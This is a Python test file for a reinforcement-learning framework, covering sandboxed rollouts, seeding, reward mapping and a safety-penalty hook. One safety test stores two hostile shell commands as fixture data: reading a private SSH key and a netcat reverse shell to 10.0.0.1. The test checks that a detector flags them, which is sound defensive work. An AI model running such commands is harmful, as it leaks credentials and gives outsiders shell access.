"""The rollout and reward stages on real sandboxes, real verifiers and real (tiny) policies."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from openale.agent.models.base import ModelResponse
from openale.agent.models.local import LocalPolicy
from openale.agent.models.smollm import tiny_random_model
from openale.agent.trajectory import Chunk, ToolCall, ToolResult, Trajectory
from openale.bench.seeded import SeededModel
from openale.rl.reward import RewardConfig, RewardError, RewardStage, failed_tool_calls
from openale.rl.rollout import Episode, Rollout, RolloutConfig, summarize_episodes
from openale.tasks import VerifierResult, load_task, load_tasks

HELLO = load_tasks("toy", include=["create-hello-file"])[0]
COUNT = load_tasks("toy", include=["count-lines"])[0]
DATA = Path(__file__).parent / "data" / "tasks"


class HelloWriter:
    """A scripted model (the policy is not under test): writes hello.txt, then answers."""

    name = "hello-writer"
    native_tools = False

    def complete(self, messages, *, tools=None, stop=None, conversation_id=None):
        if any(m["role"] == "assistant" for m in messages):
            return ModelResponse(text="Done.")
        return ModelResponse(text="```bash\nprintf 'hello world\\n' > /app/hello.txt\n```")

    def count_tokens(self, messages):
        return sum(len(m["content"]) for m in messages) // 4


@pytest.fixture(scope="module")
def tiny():
    model, tokenizer = tiny_random_model()
    with LocalPolicy(model, tokenizer) as policy:
        yield policy


def test_a_group_per_task_is_verified_and_rewarded():
    rollout = Rollout(HelloWriter(), RolloutConfig(group_size=2, concurrency=4, max_turns=3))
    episodes = rollout.run([HELLO, COUNT], round=3, progress=False)

    assert [(e.task, e.attempt) for e in episodes] == [
        ("create-hello-file", 0),
        ("create-hello-file", 1),
        ("count-lines", 0),
        ("count-lines", 1),
    ]
    for ep in episodes:
        assert ep.error is None, ep.traceback
        traj = ep.trajectory
        assert traj.metadata["group"] == ep.group == f"r3/{ep.task}"
        assert traj.verifier["reward"] == ep.verifier.reward
        assert ep.sandbox_s > 0 and ep.verify_s > 0 and ep.total_s >= ep.verify_s
        assert traj.chunks[0].tool_results[0].exit_code == 0  # it really ran in the sandbox
    hello, count = episodes[:2], episodes[2:]
    assert all(e.passed and e.reward == 1.0 == e.trajectory.reward for e in hello)
    assert all(not e.passed and e.reward == -1.0 == e.trajectory.reward for e in count)
    assert len({e.seed for e in episodes}) == 4
    stats = summarize_episodes(episodes)
    assert stats["pass_rate"] == 0.5 and stats["mean_reward"] == 0.0


def test_same_seeds_give_identical_trajectories_when_sampling(tiny):
    config = RolloutConfig(
        group_size=2, max_turns=2, max_new_tokens=12, temperature=1.0, concurrency=1, seed=5
    )
    first = Rollout(tiny, config).run([HELLO], progress=False)
    second = Rollout(tiny, config).run([HELLO], progress=False)
    other = Rollout(tiny, config.model_copy(update={"seed": 6})).run([HELLO], progress=False)

    def ids(ep: Episode) -> list[list[int]]:
        return [c.token_ids for c in ep.trajectory.chunks]

    for a, b in zip(first, second, strict=True):
        assert a.error is None and a.seed == b.seed
        assert ids(a) == ids(b)
        assert [c.logprobs for c in a.trajectory.chunks] == [
            c.logprobs for c in b.trajectory.chunks
        ]
        assert a.trainable and all(c.policy_version == tiny.version for c in a.trajectory.chunks)
    assert ids(first[0]) != ids(first[1])  # attempts of a group differ
    assert ids(first[0]) != ids(other[0])  # and so do seeds
    assert len(tiny.tokens) == 0  # episodes release their token sequences


def test_seeded_model_passes_sampling_only_to_models_that_take_it(tiny):
    seeded = SeededModel(tiny, 11, temperature=1.3, max_new_tokens=5)
    chat = [{"role": "user", "content": "hi"}]
    a = seeded.complete(chat, conversation_id="c1")
    b = SeededModel(tiny, 11, temperature=1.3, max_new_tokens=5).complete(chat)
    assert a.token_ids == b.token_ids and len(a.token_ids) <= 5
    assert seeded.complete(chat).token_ids != a.token_ids  # the next call, the next seed
    assert "c1" in tiny.tokens
    seeded.release()
    assert "c1" not in tiny.tokens
    plain = SeededModel(HelloWriter(), 1, temperature=0.5)
    assert plain.complete(chat).text.startswith("```bash")


def test_harness_errors_fail_their_episodes_not_the_batch(tmp_path):
    broken = tmp_path / "broken-image"
    shutil.copytree(DATA / "good", broken)
    (broken / "environment" / "Dockerfile").write_text("FROM openale/no-such-image:none\n")
    tasks = [load_task(broken), load_task(DATA / "crashing-verifier"), HELLO]
    rollout = Rollout(HelloWriter(), RolloutConfig(group_size=1, concurrency=3, max_turns=2))
    build, verifier, ok = rollout.run(tasks, progress=False)

    assert build.error_stage == "build" and build.trajectory is None
    assert verifier.error_stage == "verify" and "wrote no reward" in verifier.error
    assert verifier.trajectory is not None  # the agent did run
    for ep in (build, verifier):
        assert ep.reward == -1.0 and not ep.passed and not ep.trainable
    assert ok.passed and ok.reward == 1.0


def _episode(chunks: list[Chunk], reward: float | None, flags=()) -> Episode:
    traj = Trajectory(task_id="t", chunks=chunks, safety_flags=list(flags))
    return Episode(
        task="t",
        group="g",
        attempt=0,
        trajectory=traj,
        verifier=VerifierResult(reward=reward),
    )


def _turn(i: int, failed: bool) -> Chunk:
    call = ToolCall(name="shell", arguments={"command": "x"})
    result = ToolResult(call_id=call.id, name="shell", output="", is_error=failed)
    return Chunk(index=i, tool_calls=[call], tool_results=[result])


def flat_penalty(trajectory, episode) -> float:
    return -0.25


def test_reward_stage_maps_verdicts_and_adds_penalty_hooks():
    stage = RewardStage(RewardConfig(failure_reward=-0.5))
    assert stage(_episode([], 1.0)) == 1.0
    assert stage(_episode([], 0.0)) == -0.5
    assert stage(_episode([], 0.7)) == -0.5  # partial credit is not a pass
    assert stage(_episode([], None)) == -0.5

    config = RewardConfig.model_validate(
        {
            "penalties": [
                "openale.rl.reward:failed_tool_calls",
                {"path": "tests.test_rl_rollout.flat_penalty", "weight": 2.0},
                {"path": "openale.rl.reward:safety_flags", "weight": 0.1},
            ]
        }
    )
    ep = _episode([_turn(0, True), _turn(1, False), _turn(2, True), _turn(3, False)], 1.0, ["x"])
    assert failed_tool_calls(ep.trajectory) == -0.5
    assert RewardStage(config)(ep) == pytest.approx(1.0 - 0.5 - 0.5 - 0.1)
    assert ep.trajectory.reward == ep.reward
    assert ep.trajectory.metadata["reward"]["base"] == 1.0

    with pytest.raises(RewardError, match="cannot be loaded"):
        RewardStage(RewardConfig(penalties=["openale.rl.reward:nope"]))
    with pytest.raises(RewardError, match="package.module:function"):
        RewardStage(RewardConfig(penalties=["nodots"]))


def _shell(i: int, command: str) -> Chunk:
    call = ToolCall(name="shell", arguments={"command": command})
    return Chunk(
        index=i,
        tool_calls=[call],
        tool_results=[ToolResult(call_id=call.id, name="shell", output="")],
    )


def test_safety_findings_are_recorded_always_and_cost_reward_only_with_a_penalty():
    risky = [_shell(0, "cat ~/.ssh/id_rsa"), _shell(1, "nc -e /bin/sh 10.0.0.1 4444")]
    benign = [_shell(0, "ls -la"), _shell(1, "pytest -q tests/")]

    plain = RewardStage(RewardConfig())
    ep = _episode(risky, 1.0)
    assert plain(ep) == 1.0  # no penalty configured: the reward is the verdict's
    safety = ep.trajectory.metadata["safety"]
    assert safety["findings"] == 2
    assert safety["categories"] == ["credential_access", "reverse_shell"]
    assert safety["weighted"] == pytest.approx(1.0 + 2.0)  # high + critical
    assert "rs.netcat-exec" in ep.trajectory.safety_flags

    penalised = RewardStage(RewardConfig(safety_penalty=0.5))
    ep = _episode(risky, 1.0)
    assert penalised(ep) == pytest.approx(1.0 - 0.5 * 3.0)
    assert ep.trajectory.metadata["reward"]["safety"] == pytest.approx(-1.5)
    clean = _episode(benign, 1.0)
    assert penalised(clean) == 1.0
    assert clean.trajectory.metadata["safety"]["findings"] == 0

    from openale.rl.generation import Ticket, group_from_episodes

    group = group_from_episodes(Ticket(0, "t", False), [ep, clean], version=0)
    assert group.findings == [2, 0]


def test_a_step_record_logs_the_unsafe_action_rate():
    from openale.rl.pipeline import _step_record
    from openale.rl.staleness import SampleGroup, Taken

    groups = [
        SampleGroup(ticket=0, task_id="a", samples=[], successes=[True, False], findings=[0, 3]),
        SampleGroup(ticket=1, task_id="b", samples=[], successes=[True, True], findings=[0, 0]),
    ]
    record = _step_record(Taken(groups=groups, version=0), {}, 1.0, 0.5, 0.0)
    assert record["unsafe_rate"] == pytest.approx(0.25)
    assert record["safety_findings"] == pytest.approx(0.75)


@pytest.mark.slow
def test_smollm2_group_of_two_end_to_end():
    with LocalPolicy.from_pretrained("smollm2") as policy:
        config = RolloutConfig(group_size=2, max_turns=2, max_new_tokens=64, seed=1)
        episodes = Rollout(policy, config).run([HELLO], progress=False)
    assert len(episodes) == 2 and {e.group for e in episodes} == {"r0/create-hello-file"}
    for ep in episodes:
        assert ep.error is None, ep.traceback
        assert ep.trainable and ep.reward in (1.0, -1.0)
        chunk = ep.trajectory.chunks[0]
        assert chunk.prompt_token_ids and chunk.token_ids
        assert len(chunk.logprobs) == len(chunk.token_ids)
        assert ep.model_s > 0
